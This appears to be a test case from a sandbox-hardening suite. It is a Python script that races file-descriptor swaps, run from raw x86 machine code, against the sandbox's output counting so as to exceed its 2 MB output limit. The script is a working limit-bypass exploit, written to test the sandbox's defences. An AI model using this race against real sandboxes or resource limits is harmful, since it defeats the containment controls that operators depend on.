# SPDX-License-Identifier: Apache-2.0
# attack: a full pipe that is stdout for an instant, swapped between the check and the kernel's own look
# class: output
# wins: limit
# native: n/a: it is a race against the counting
# limits: out=2000000 wall=12 tasks=16
from kit import *

b = ctypes.create_string_buffer(b'r' * 3000000)
r, w = os.pipe()
os.set_blocking(w, False)
try:
    while True:
        os.write(w, b.raw[:4096])
except OSError:
    pass
os.dup2(w, 50)
tried()
# toggle(flag, a, b, fd, spin): until *flag: dup2(a, fd), dup2(b, fd), spin
CODE = ('554989f24989f94889ce53bd210000004889d3498b114885d2751a89e84c89d70f0589e84889df0f054c39c27de5f39048ff'
        'c2ebf45b5dc3')
fn = function(CODE, ctypes.c_void_p, *[ctypes.c_long] * 4)
flag = ctypes.c_long(0)
threading.Thread(target=fn, args=(address(flag), 1, w, 50, 3000), daemon=True).start()
stop = time.monotonic() + 5
n = 0
parts = struct.pack('<QQQQ', address(b), 1, address(b), 3000000)
vector = ctypes.create_string_buffer(parts)
while time.monotonic() < stop:
    n += 1
    sc('writev', 50, vector, 2)
    sc('write', 50, b, 3000000)
flag.value = 1
say('ROUNDS', n)
